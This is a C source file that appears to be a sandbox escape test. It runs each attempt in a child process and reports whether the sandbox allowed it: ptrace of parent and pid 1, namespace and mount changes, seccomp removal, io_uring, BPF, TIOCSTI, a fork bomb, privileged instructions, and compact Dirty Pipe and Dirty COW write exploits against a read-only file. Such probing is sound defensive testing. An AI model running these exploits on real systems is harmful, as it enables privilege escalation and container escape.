/* What a program of C tries, that Python cannot, or not without its library in between.
 *
 * Each attempt is a child of its own, for at most half a minute. Prints a line for each: its name, a
 * tab, and OPEN, the error's name, or what it died of. Run by native.py, inside a sandbox, after
 * look.py has seen one.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static char buffer[4096];
static const char *code = "/var/task/integration/escape/inside/hostile.py";

/* -- other processes -- */
static long trace_parent(void) { return ptrace(PTRACE_ATTACH, getppid(), 0, 0); }
static long seize_init(void) { return ptrace(PTRACE_SEIZE, 1, 0, 0); }
static long be_traced(void) { return ptrace(PTRACE_TRACEME, 0, 0, 0); }
static long read_parent(void) {
  struct iovec here = {buffer, 64}, there = {buffer, 64};
  return syscall(SYS_process_vm_readv, getppid(), &here, 1, &there, 1, 0);
}
static long write_parent(void) {
  struct iovec here = {buffer, 64}, there = {buffer, 64};
  return syscall(SYS_process_vm_writev, getppid(), &here, 1, &there, 1, 0);
}
static long take_descriptor(void) {
  int fd = (int)syscall(434 /* pidfd_open */, getppid(), 0);
  return fd < 0 ? fd : syscall(438 /* pidfd_getfd */, fd, 1, 0);
}
static long reap_init(void) { return waitpid(1, 0, WNOHANG); }

/* -- namespaces and mounts -- */
static long raw_clone(unsigned long flags) {
  long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return pid;
}
static long clone_user_mount(void) { return raw_clone(CLONE_NEWUSER | CLONE_NEWNS); }
static long clone_cgroup(void) { return raw_clone(CLONE_NEWCGROUP); }
static long clone_all(void) { return raw_clone(0x7e020000); }
static long clone_into_cgroup(void) {
  uint64_t arguments[11] = {0x200000000ULL, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0};
  return syscall(435 /* clone3 */, arguments, sizeof arguments);
}
static long unshare_two(void) { return unshare(CLONE_NEWUSER | CLONE_NEWNET); }
static long join(const char *path) {
  int fd = open(path, O_RDONLY);
  return fd < 0 ? fd : setns(fd, 0);
}
static long join_own(void) { return join("/proc/self/ns/mnt"); }
static long join_inits(void) { return join("/proc/1/ns/user"); }
static long mount_proc(void) { return mount("proc", "/tmp", "proc", 0, 0); }
static long mount_cgroups(void) { return mount("none", "/tmp", "cgroup2", 0, 0); }
static long write_again(void) { return mount(0, "/var/task", 0, MS_REMOUNT | MS_BIND, 0); }
static long uncover(void) { return umount2("/proc/kcore", MNT_DETACH); }
static long clone_tree(void) { return syscall(428 /* open_tree */, AT_FDCWD, "/", 1); }

/* -- large or often broken parts of the kernel -- */
static long ring(void) { return syscall(425 /* io_uring_setup */, 1, buffer); }
static long load_bpf(void) {
  union bpf_attr attributes;
  memset(&attributes, 0, sizeof attributes);
  return syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof attributes);
}
static long session_key(void) { return syscall(SYS_keyctl, 1 /* join session */, 0, 0, 0, 0); }
static long user_faults(void) { return syscall(SYS_userfaultfd, O_CLOEXEC); }
static long handle(void) { return syscall(SYS_open_by_handle_at, AT_FDCWD, buffer, 0); }
static long secret(void) { return syscall(447 /* memfd_secret */, 0); }
static long crypto(void) { return socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0); }
static long host_of_machine(void) { return socket(40 /* AF_VSOCK */, SOCK_STREAM, 0); }
static long packets(void) { return socket(AF_PACKET, SOCK_RAW, 0); }
static long terminal(void) { return ioctl(0, 0x5412 /* TIOCSTI */, buffer); }

/* -- its own filter and privileges -- */
static struct sock_filter allow_all[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
static long weaker_filter(void) {
  struct sock_fprog program = {1, allow_all};
  if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) != 0) return -1;
  return session_key(); /* the strictest of all filters decides */
}
static long no_filter(void) { return prctl(PR_SET_SECCOMP, 0, 0, 0, 0); }
static void *thread_calls(void *result) {
  *(long *)result = session_key() < 0 ? -errno : 0;
  return 0;
}
static long from_a_thread(void) {
  pthread_t thread;
  long result = 0;
  if (pthread_create(&thread, 0, thread_calls, &result) != 0) return -1;
  pthread_join(thread, 0);
  errno = (int)-result;
  return result ? -1 : 0;
}
static long after_exec(void) {
  char *arguments[] = {"native", "key", 0};
  return execv("/proc/self/exe", arguments);
}
static long from_memory(void) { /* as just-in-time compilers do */
  void *page = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  return page == MAP_FAILED ? -1 : 0;
}
static long page_zero(void) {
  void *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  return page == MAP_FAILED ? -1 : 0;
}

/* -- pages of files that may only be read -- */
static int first_byte(void) {
  char byte = 0;
  int fd = open(code, O_RDONLY);
  if (fd < 0 || pread(fd, &byte, 1, 1) != 1) _exit(1);
  close(fd);
  return byte;
}
static long unchanged(int before) {
  errno = 0;
  return first_byte() == before ? -1 : 0;
}
static long dirty_pipe(void) { /* CVE-2022-0847 */
  int before = first_byte(), ends[2], fd = open(code, O_RDONLY);
  loff_t offset = 0;
  char other = (char)(before ^ 1);
  if (fd < 0 || pipe(ends) != 0) return -1;
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= 4096)
    if (write(ends[1], buffer, 4096) != 4096) return -1;
  for (int left = size; left > 0; left -= 4096)
    if (read(ends[0], buffer, 4096) != 4096) return -1;
  if (splice(fd, &offset, ends[1], 0, 1, 0) != 1 || write(ends[1], &other, 1) != 1) return -1;
  return unchanged(before);
}
static char *private_page;
static volatile int cow_is_over;
static void *drop_page(void *unused) {
  (void)unused;
  while (!cow_is_over) madvise(private_page, 4096, MADV_DONTNEED);
  return 0;
}
static long dirty_cow(void) { /* CVE-2016-5195, a thousand times */
  int before = first_byte(), fd = open(code, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
  pthread_t thread;
  char other = (char)(before ^ 1);
  private_page = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  if (fd < 0 || private_page == MAP_FAILED || pthread_create(&thread, 0, drop_page, 0) != 0) return -1;
  for (int turn = 0; turn < 1000 && memory >= 0; turn++)
    if (pwrite(memory, &other, 1, (off_t)(uintptr_t)private_page + 1) < 0) break;
  cow_is_over = 1;
  pthread_join(thread, 0);
  return unchanged(before);
}

/* -- appetite -- */
static long forks(void) {
  static pid_t children[1300];
  int count = 0, failure = 0;
  for (; count < 1300; count++) {
    children[count] = fork();
    if (children[count] == 0) for (;;) pause();
    if (children[count] < 0) { failure = errno; break; }
  }
  for (int number = 0; number < count; number++) {
    kill(children[number], SIGKILL);
    waitpid(children[number], 0, 0);
  }
  errno = failure;
  return failure ? -1 : 0;
}

/* -- instructions -- */
static long kernel_address(void) {
  *(volatile char *)(uintptr_t)0xffffffff81000000ULL = 1;
  return 0;
}
#ifdef __x86_64__
static long halt(void) { __asm__ volatile("hlt"); return 0; }
static long no_interrupts(void) { __asm__ volatile("cli"); return 0; }
static long port(void) { __asm__ volatile("inb $0x70, %%al" ::: "al"); return 0; }
static long register_read(void) { __asm__ volatile("rdmsr" ::"c"(0x10) : "eax", "edx"); return 0; }
static long of_32_bits(void) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "0"(20L));
  return result;
}
static long of_x32(void) { return syscall(0x40000000 + 39); }
#endif

static const struct { const char *name; long (*run)(void); } tries[] = {
  {"C: trace its parent", trace_parent},
  {"C: trace pid 1", seize_init},
  {"C: be traced", be_traced},
  {"C: read its parent's memory", read_parent},
  {"C: write its parent's memory", write_parent},
  {"C: take its parent's descriptor", take_descriptor},
  {"C: wait for pid 1", reap_init},
  {"C: clone into user and mount namespace", clone_user_mount},
  {"C: clone into a cgroup namespace", clone_cgroup},
  {"C: clone into all namespaces", clone_all},
  {"C: clone into a cgroup", clone_into_cgroup},
  {"C: leave user and network namespace", unshare_two},
  {"C: join its own mount namespace", join_own},
  {"C: join pid 1's user namespace", join_inits},
  {"C: mount /proc", mount_proc},
  {"C: mount the cgroups", mount_cgroups},
  {"C: mount the code to be written", write_again},
  {"C: uncover /proc/kcore", uncover},
  {"C: copy the mounts", clone_tree},
  {"C: io_uring", ring},
  {"C: load a BPF program", load_bpf},
  {"C: join a session of keys", session_key},
  {"C: keys, from a thread", from_a_thread},
  {"C: keys, after exec", after_exec},
  {"C: keys, under a filter that allows all", weaker_filter},
  {"C: switch the filter off", no_filter},
  {"C: handle page faults", user_faults},
  {"C: open by handle", handle},
  {"C: secret memory", secret},
  {"C: the kernel's cryptography", crypto},
  {"C: talk to the host of a virtual machine", host_of_machine},
  {"C: raw packets", packets},
  {"C: type into the terminal", terminal},
  {"C: make code in memory", from_memory},
  {"C: map page zero", page_zero},
  {"C: write the code's pages through a pipe", dirty_pipe},
  {"C: write the code's pages in a race", dirty_cow},
  {"C: fork without end", forks},
  {"C: write the kernel's memory", kernel_address},
#ifdef __x86_64__
  {"C: halt the processor", halt},
  {"C: switch interrupts off", no_interrupts},
  {"C: read an I/O port", port},
  {"C: read a model-specific register", register_read},
  {"C: a call of 32 bits", of_32_bits},
  {"C: a call of x32", of_x32},
#endif
};

int main(int count, char **arguments) {
  (void)arguments;
  if (count > 1) _exit(session_key() < 0 ? errno : 0); /* after_exec */
  for (size_t number = 0; number < sizeof tries / sizeof *tries; number++) {
    printf("%s\t", tries[number].name);
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
      signal(SIGALRM, SIG_DFL);
      alarm(30);
      errno = 0;
      long result = tries[number].run();
      _exit(result >= 0 ? 0 : errno ? errno : 255);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    if (WIFSIGNALED(status)) printf("killed by %d\n", WTERMSIG(status));
    else if (WEXITSTATUS(status) == 255) printf("unchanged\n");
    else if (WEXITSTATUS(status)) printf("%s\n", strerrorname_np(WEXITSTATUS(status)));
    else printf("OPEN\n");
  }
  return 0;
}
